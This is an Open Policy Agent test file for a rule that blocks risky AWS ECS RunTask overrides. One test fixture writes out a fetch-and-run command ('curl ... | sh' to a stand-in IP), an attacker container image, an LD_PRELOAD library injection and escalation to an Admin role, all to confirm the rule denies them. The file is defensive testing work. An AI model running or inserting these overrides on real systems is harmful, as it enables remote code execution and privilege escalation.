package ecsguard.rules.runtask_overrides_test

import data.ecsguard.rules.runtask_overrides

config := {"runtask_overrides": {
	"allowed_principals": ["arn:aws:iam::111122223333:role/ci-deployer"],
	"allowed_started_by": ["events-rule/nightly-*"],
	"dangerous_env_names": ["LD_PRELOAD", "NODE_OPTIONS"],
}}

td := {
	"family": "report-generator",
	"revision": 5,
	"taskRoleArn": "arn:aws:iam::111122223333:role/report-task-role",
	"containerDefinitions": [{"name": "report", "image": "111122223333.dkr.ecr.us-east-1.amazonaws.com/report:3.1.0", "command": ["python", "report.py"]}],
}

run_task(overrides, caller) := {
	"trigger": "run_task",
	"account": "111122223333",
	"task": {"arn": "arn:aws:ecs:us-east-1:111122223333:task/batch/4c3d"},
	"taskDefinition": td,
	"caller": caller,
	"request": {"overrides": overrides},
}

alice := {"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/developer/alice", "sessionIssuerArn": "arn:aws:iam::111122223333:role/developer"}

ci := {"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/ci-deployer/build-812", "sessionIssuerArn": "arn:aws:iam::111122223333:role/ci-deployer"}

test_command_image_role_and_env_changes_are_denied if {
	findings := runtask_overrides.deny with input as run_task({
		"containerOverrides": [{
			"name": "report",
			"command": ["sh", "-c", "curl -s http://203.0.113.7/x | sh"],
			"image": "docker.io/attacker/tools:1",
			"environment": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}, {"name": "REPORT_DATE", "value": "2025-06-01"}],
		}],
		"taskRoleArn": "arn:aws:iam::111122223333:role/Admin",
	}, alice)
		with data.ecsguard.config as config
	count(findings) == 4
	every f in findings {
		f.source == "overrides"
		f.resource == "arn:aws:ecs:us-east-1:111122223333:task/batch/4c3d"
	}
}

test_allowed_principal_may_override if {
	count(runtask_overrides.deny) == 0 with input as run_task({"containerOverrides": [{"name": "report", "command": ["python", "backfill.py"]}]}, ci)
		with data.ecsguard.config as config
}

test_overrides_that_change_nothing_pass if {
	count(runtask_overrides.deny) == 0 with input as run_task({
		"containerOverrides": [
			{"name": "report", "command": ["python", "report.py"], "environment": [{"name": "REPORT_DATE", "value": "2025-06-01"}], "cpu": 512},
			{"name": "report", "command": []},
		],
		"taskRoleArn": "arn:aws:iam::111122223333:role/report-task-role",
	}, alice)
		with data.ecsguard.config as config
	count(runtask_overrides.deny) == 0 with input as run_task({}, alice) with data.ecsguard.config as config
	count(runtask_overrides.deny) == 0 with input as run_task(null, alice) with data.ecsguard.config as config
}

test_running_task_overrides_without_definition_are_denied if {
	findings := runtask_overrides.deny with input as {
		"trigger": "task_state_change",
		"task": {"arn": "arn:aws:ecs:us-east-1:111122223333:task/batch/4c3d", "startedBy": "alice", "overrides": {"containerOverrides": [{"name": "report", "command": ["id"]}]}},
	}
		with data.ecsguard.config as config
	count(findings) == 1
}

test_allowed_started_by_may_override if {
	count(runtask_overrides.deny) == 0 with input as {
		"trigger": "task_state_change",
		"task": {"startedBy": "events-rule/nightly-report", "overrides": {"containerOverrides": [{"name": "report", "command": ["python", "report.py", "--full"]}]}},
	}
		with data.ecsguard.config as config
}
